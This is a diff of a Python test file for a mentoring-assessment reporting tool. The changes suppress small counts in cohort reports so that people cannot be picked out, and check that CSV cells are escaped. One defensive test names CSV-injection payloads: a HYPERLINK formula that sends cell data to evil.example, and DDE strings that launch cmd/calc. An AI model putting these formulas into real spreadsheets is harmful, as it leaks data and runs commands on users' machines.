@@ -19,6 +19,7 @@ from pathlib import Path
 
 import pytest
 from mentorkit.cli import main
+from mentorkit.cohort import boundaries
 from mentorkit.project import load_all
 from mentorkit.scoring import score
 from mentorkit.spec import runtime_spec
@@ -153,6 +154,27 @@ def percent(count: int, total: int) -> str:
     return f"{count / total * 100:.0f}%"
 
 
+def merged(counts: list[int], columns: list[str]) -> list[tuple[str, int]]:
+    """A row of counts as the report shows it: neighbours merged by the published summary's rule
+    (cohort.boundaries), each span named by its columns, with its people."""
+    found = boundaries(counts)
+    assert found is not None
+    return [(columns[a] if a == b else f"{columns[a]} to {columns[b]}", sum(counts[a : b + 1])) for a, b in found]
+
+
+def written(counts: list[int], columns: list[str]) -> list[str]:
+    """The same row in the CSV: each count in the first of its columns, the columns it covers naming it."""
+    cells = []
+    for a, b in boundaries(counts) or []:
+        cells += [str(sum(counts[a : b + 1])), *[f"with {columns[a]}"] * (b - a)]
+    return cells
+
+
+def tally(entries, columns: list[str], column_of) -> list[int]:
+    found = Counter(column_of(entry) for entry in entries)
+    return [found[c] for c in columns]
+
+
 # --- levels: the mentor self-assessment --------------------------------------------------
 
 
@@ -172,6 +194,17 @@ def competence_cohort(tmp_path) -> tuple[Path, list[dict]]:
     return folder, answer_sets
 
 
+LEVEL_COLUMNS = [
+    "Incomplete",
+    "Too little evidence",
+    "Not yet Foundation",
+    "Foundation",
+    "Practitioner",
+    "Senior Practitioner",
+    "Master Practitioner",
+]
+
+
 def level_column(spec: dict, entry: dict) -> str:
     names = {level["id"]: level["name"] for level in spec["scoring"]["levels"]}
     if entry["status"] != "complete":
@@ -184,11 +217,11 @@ def level_column(spec: dict, entry: dict) -> str:
 def test_newcomers_with_little_that_applies_count_as_too_little_evidence_not_as_no_level(capsys, tmp_path):
     spec = spec_of(COMPETENCE)
     newcomer = {i["id"]: "na" for g in spec["groups"] for i in g["items"]}
-    answer_sets = [scale_answers(spec, seed) for seed in range(5)] + [newcomer]
+    answer_sets = [scale_answers(spec, seed) for seed in range(5)] + [newcomer] * 5
     html, rows, _ = cohort_report(capsys, tmp_path, COMPETENCE, answer_sets)
     header = rows[0]
     evidence = header.index("Too little evidence")
-    assert all(row[evidence] == "1" for row in rows[1:])  # the newcomer, in every category and overall
+    assert all(row[evidence] == "5" for row in rows[1:])  # the newcomers, in every category and overall
     assert "or with too little evidence, are not counted in it" in html
 
 
@@ -197,37 +230,36 @@ def test_levels_heat_map_counts_the_level_each_person_reached_in_each_category(c
     spec = spec_of(COMPETENCE)
     code, out, err = run_report(capsys, tmp_path, COMPETENCE, folder)
     assert code == 0, err
-    assert out.splitlines()[0].startswith("7 people handed in their answers; most often overall: ")  # one line first
+    first = out.splitlines()[0]  # one line first, naming the first of the ranking below the heat map
+    assert first.startswith("7 people handed in their answers; ")
     assert out.splitlines()[1] == f"wrote report.html, report.csv, means.svg in {tmp_path / 'out'}"
     html, rows = outputs(tmp_path)
 
-    columns = [
-        "Not yet Foundation",
-        "Foundation",
-        "Practitioner",
-        "Senior Practitioner",
-        "Master Practitioner",
-        "Too little evidence",
-        "Incomplete",
-    ]
+    columns = LEVEL_COLUMNS
     results = [score(spec, answers) for answers in answer_sets]
-    expected = [["Category", *columns]]
-    for g, group in enumerate(spec["groups"]):
-        counted = Counter(level_column(spec, r["groups"][g]) for r in results)
-        expected.append([group["title"], *(str(counted[c]) for c in columns)])
-    assert tables(html)["Level reached in each category"] == expected
-    assert sum(int(cell) for row in expected[1:] for cell in row[1:]) == 7 * 8  # every person in every category
+    counts = [tally((r["groups"][g] for r in results), columns, lambda e: level_column(spec, e)) for g in range(8)]
+    assert all(sum(row) == 7 for row in counts)  # every person in every category
+    shown = tables(html)["Level reached in each category"]
+    assert shown[0] == ["Category", *columns]
+    assert shown[1:] == [
+        [group["title"], *(str(n) for _, n in merged(row, columns))] for group, row in zip(spec["groups"], counts)
+    ]
+    assert not [n for row in shown[1:] for n in row[1:] if n in ("1", "2", "3", "4")]  # no one can be picked out
 
-    overall = Counter(level_column(spec, r["overall"]) for r in results)
-    assert overall["Incomplete"] == 1 and overall["Master Practitioner"] == 0  # the flattering file's claim is ignored
+    overall = tally((r["overall"] for r in results), columns, lambda e: level_column(spec, e))
+    assert overall[0] == 1 and overall[-1] == 0  # incomplete: 1; the flattering file's claim is ignored
     assert tables(html)["Overall level of the 7 people"] == [
         ["Result", "People", "Share"],
-        *([c, str(overall[c]), percent(overall[c], 7)] for c in columns),
+        *([label, str(n), percent(n, 7)] for label, n in merged(overall, columns)),
     ]
 
     assert rows[0] == ["group_id", "category", *columns]
-    assert rows[1:-1] == [[group["id"], *row] for group, row in zip(spec["groups"], expected[1:])]
-    assert rows[-1] == ["overall", "Overall level", *(str(overall[c]) for c in columns)]
+    assert rows[1:-1] == [
+        [group["id"], group["title"], *written(row, columns)] for group, row in zip(spec["groups"], counts)
+    ]
+    assert rows[-1] == ["overall", "Overall level", *written(overall, columns)]
+    weakest = tables(html)["Categories most in need of development"][1]
+    assert f"the category most in need of development: {weakest[0]} (mean level {weakest[1]})" in first
 
 
 def test_levels_ranks_the_categories_most_in_need_of_development_and_says_by_what_rule(
@@ -435,25 +467,26 @@ def test_bands_count_people_per_band_and_rank_the_characteristics_most_often_to_
     html, rows, _ = cohort_report(capsys, tmp_path, READINESS, answer_sets)
 
     names = {band["id"]: band["name"] for band in spec["scoring"]["bands"]}
-    columns = [*names.values(), "Incomplete"]
+    columns = ["Incomplete", *names.values()]  # lowest first
     results = [score(spec, answers) for answers in answer_sets]
 
     def column(entry):
         return names[entry["band"]] if entry["status"] == "complete" else "Incomplete"
 
+    counts = [tally((r["groups"][g] for r in results), columns, column) for g in range(len(spec["groups"]))]
     expected = [
-        [group["title"], *(str(Counter(column(r["groups"][g]) for r in results)[c]) for c in columns)]
-        for g, group in enumerate(spec["groups"])
+        [group["title"], *(str(n) for _, n in merged(row, columns))] for group, row in zip(spec["groups"], counts)
     ]
     assert tables(html)["Band of each characteristic"] == [["Characteristic", *columns], *expected]
-    overall = Counter(column(r["overall"]) for r in results)
-    assert rows[-1] == ["overall", "Overall band", *(str(overall[c]) for c in columns)]
+    overall = tally((r["overall"] for r in results), columns, column)
+    assert rows[-1] == ["overall", "Overall band", *written(overall, columns)]
 
     focus = Counter(group_id for r in results for group_id in r["focus"])
     shown = tables(html)["Characteristics most often to work on"]
-    assert [(title, int(n)) for title, n in shown[1:]] == sorted(
-        ((group["title"], focus[group["id"]]) for group in spec["groups"]), key=lambda row: -row[1]
-    )
+    ranked = sorted(spec["groups"], key=lambda group: -focus[group["id"]])
+    assert shown[1:] == [
+        [g["title"], "fewer than 5" if 0 < focus[g["id"]] < 5 else str(focus[g["id"]])] for g in ranked
+    ]
     assert "below the band &#39;Ready&#39;" in html
 
 
@@ -464,18 +497,22 @@ def test_profile_shows_the_mean_of_means_and_how_often_each_role_was_least_used(
 
     results = [score(spec, answers) for answers in answer_sets]
     assert rows[0][2:] == ["Complete", "Incomplete", "Mean of means", "Among the least used"]
+
+    def count(n: int) -> str:  # a count of 1 to 4 people could point at one of them
+        return "fewer than 5" if 0 < n < 5 else str(n)
+
     for g, (group, row) in enumerate(zip(spec["groups"], rows[1:-1])):
         means = [r["groups"][g]["mean"] for r in results if r["groups"][g]["status"] == "complete"]
         least = sum(1 for r in results if group["id"] in r["focus"])
         assert row == [
             group["id"],
             group["title"],
-            str(len(means)),
-            str(6 - len(means)),
-            str(round(sum(means) / len(means), 2)),
-            str(least),
+            count(len(means)),
+            count(6 - len(means)),
+            str(round(sum(means) / len(means), 2)) if len(means) >= 5 else "",
+            count(least),
         ]
-    assert rows[-1][:4] == ["overall", "Answered every statement", "5", "1"]
+    assert rows[-1][:4] == ["overall", "Answered every statement", "5", "fewer than 5"]
 
 
 def test_none_counts_answered_items_and_never_shows_an_answer(capsys, tmp_path):
@@ -497,13 +534,12 @@ def test_none_counts_answered_items_and_never_shows_an_answer(capsys, tmp_path):
 
     answered = tables(html)["Items answered"]
     assert answered[0] == ["Item", "Section", "People"]
-    assert ["Mentor's name", "Who we are", "2"] in answered
-    assert ["How often will we meet?", "Meetings", "2"] in answered
+    assert ["Mentor's name", "Who we are", "fewer than 5"] in answered  # two of three people: not shown
+    assert ["How often will we meet?", "Meetings", "fewer than 5"] in answered
     assert ["Where will we meet, and how will we keep in touch between meetings?", "Meetings", "0"] in answered
     by_section = {row[0]: row[1:] for row in tables(html)["Items answered in each section"]}
-    assert by_section["Who we are"] == ["1", "1", "1"]  # all, some, none
-    assert by_section["Meetings"] == ["0", "2", "1"]
-    assert rows[0] == ["group_id", "section", "Answered all", "Answered some", "Answered none"]
+    assert by_section["Who we are"] == ["fewer than 5"]  # three people in all: no count of them is shown
+    assert rows[0] == ["group_id", "section", "Answered none", "Answered some", "Answered all"]
     assert len(rows) == 1 + len(spec["groups"]) + 1
 
 
@@ -533,15 +569,15 @@ def test_titles_and_names_a_spreadsheet_would_run_as_formulas_are_written_inert(
     questionnaire = tmp_path / "q.yml"
     questionnaire.write_text(text, encoding="utf-8")
     spec = spec_of(questionnaire)
-    write_files(tmp_path / "answers", spec, [scale_answers(spec, 1)])
+    write_files(tmp_path / "answers", spec, [scale_answers(spec, 1)] * 5)
     assert run_report(capsys, tmp_path, questionnaire, tmp_path / "answers")[0] == 0
     _, rows = outputs(tmp_path)
     cells = [cell for row in rows for cell in row]
     assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"Time")' in cells
     assert "'+1+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
-    assert rows[0][2:5] == ["'-2+3", "Getting there", "'\tReady"]
-    assert "1" in cells  # counts stay numbers
+    assert rows[0][3:6] == ["'-2+3", "Getting there", "'\tReady"]
+    assert "5" in cells  # counts stay numbers
 
 
 def test_level_names_a_spreadsheet_would_run_as_formulas_are_written_inert_too(capsys, tmp_path):
